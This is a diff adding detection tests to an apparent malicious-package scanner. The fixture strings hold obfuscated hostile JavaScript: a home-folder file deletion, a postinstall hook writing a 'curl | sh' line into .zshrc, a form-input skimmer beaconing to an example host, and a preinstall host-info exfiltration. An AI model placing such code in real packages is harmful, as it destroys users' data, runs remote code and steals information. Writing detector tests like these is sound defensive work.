@@ -2328,3 +2328,82 @@ describe('built-ins an attacker builds a command with', () => {
     expect(found.evidence.map((f) => f.rule)).toContain('js.exec-download-pipe-shell');
   });
 });
+
+describe('data flow that is hard to follow (round 15)', () => {
+  const pkg = (files: Record<string, string>, scripts?: Record<string, string>) =>
+    analyzeSource({
+      'package.json': JSON.stringify({
+        name: 'flow-kit',
+        version: '1.0.0',
+        main: 'index.js',
+        ...(scripts ? { scripts } : {}),
+      }),
+      ...files,
+    });
+  const rulesOf = (r: ReturnType<typeof pkg>) => r.evidence.map((f) => f.rule);
+  it('Function.prototype.call.bind(fs.rmSync), targets in a Map of Object.entries, run from setImmediate with the home folder', () => {
+    const r = pkg({
+      'index.js': `const fs = require('fs'), os = require('os'), path = require('path');
+const del = Function.prototype.call.bind(fs.rmSync);
+const plan = new Map(Object.entries({ old: ['Documents', 'Pictures'] }));
+function tidy(base) { for (const d of plan.get('old')) del(fs, path.join(base, d), { recursive: true, force: true }); }
+setImmediate(tidy, os.homedir());`,
+    });
+    expect(rulesOf(r)).toContain('js.destructive-user-data');
+  });
+  it('a Proxy over fs and a tag function that hands its parts to String.raw, writing a shell start-up file', () => {
+    const r = pkg(
+      {
+        'setup.js': `const os = require('os'), path = require('path');
+const fs = new Proxy(require('fs'), { get: (t, k) => (...a) => { try { return Reflect.apply(t[k], t, a); } catch { return undefined; } } });
+const line = (parts, ...v) => String.raw(parts, ...v);
+const url = ['https:', '', 'prompt-cdn.example', 'u'].join('/');
+fs.appendFileSync(path.join(os.homedir(), '.zshrc'), line\`(curl -fsSL \${url} | sh) >/dev/null 2>&1 &\`);`,
+      },
+      { postinstall: 'node setup.js' },
+    );
+    expect(rulesOf(r)).toEqual(expect.arrayContaining(['js.write-shell-rc', 'shell.download-pipe-shell']));
+  });
+  it('field values captured page-wide in one module, handed on by a CustomEvent, sent from a listener in another to an address resolved from a base', () => {
+    const r = analyzeSource({
+      'package.json': JSON.stringify({ name: 'form-drafts', version: '2.1.0', main: 'src/index.js' }),
+      'src/index.js': `import './watch.js';\nimport './upload.js';`,
+      'src/watch.js': `const seen = new Map();
+document.addEventListener('input', (e) => { seen.set(e.target.name, e.target.value); window.dispatchEvent(new CustomEvent('drafts:save', { detail: Object.fromEntries(seen) })); }, true);`,
+      'src/upload.js': `const base = 'https://' + ['sync', 'drafts-cdn', 'example'].join('.');
+window.addEventListener('drafts:save', ({ detail }) => navigator.sendBeacon(new URL('/d', base), JSON.stringify(detail)));`,
+    });
+    expect(rulesOf(r)).toContain('js.page-secret-exfil');
+  });
+  it('a host snapshot emitted on a shared emitter module and sent by a listener in another', () => {
+    const r = pkg(
+      {
+        'bus.js': `module.exports = new (require('events'))();`,
+        'probe.js': `const os = require('os'); require('./bus').emit('snapshot', { h: os.hostname(), u: os.userInfo().username, d: os.homedir() });`,
+        'report.js': `require('./bus').on('snapshot', (s) => require('https').get('https://beacon.example-probe.net/r?d=' + Buffer.from(JSON.stringify(s)).toString('hex')));`,
+        'install.js': `require('./report');\nrequire('./probe');`,
+      },
+      { preinstall: 'node install.js' },
+    );
+    expect(threatsOf(r)).toContain('data_exfiltration');
+  });
+  it('quiet: a page-wide input listener that validates and saves drafts in web storage only', () => {
+    const r = analyzeSource({
+      'package.json': JSON.stringify({ name: 'form-drafts', version: '2.1.0', main: 'src/index.js' }),
+      'src/index.js': `const seen = new Map();
+document.addEventListener('input', (e) => { if (e.target.value.length > 200) e.target.setCustomValidity('too long'); seen.set(e.target.name, e.target.value); window.dispatchEvent(new CustomEvent('drafts:save', { detail: Object.fromEntries(seen) })); }, true);
+window.addEventListener('drafts:save', ({ detail }) => localStorage.setItem('draft:' + location.pathname, JSON.stringify(detail)));
+window.addEventListener('drafts:sync', () => fetch('/api/drafts', { method: 'POST', body: localStorage.getItem('draft:' + location.pathname) }));`,
+    });
+    expect(threatsOf(r)).toEqual([]);
+  });
+  it('quiet: an event bus that carries progress numbers to a listener that reports to the configured server', () => {
+    const r = pkg({
+      'index.js': `const bus = require('./bus');
+bus.on('progress', (p) => require('https').request(process.env.PROGRESS_URL, { method: 'POST' }).end(JSON.stringify(p)));
+exports.run = (n) => { for (let i = 0; i < n; i++) bus.emit('progress', { done: i, total: n }); };`,
+      'bus.js': `module.exports = new (require('events').EventEmitter)();`,
+    });
+    expect(threatsOf(r)).toEqual([]);
+  });
+});
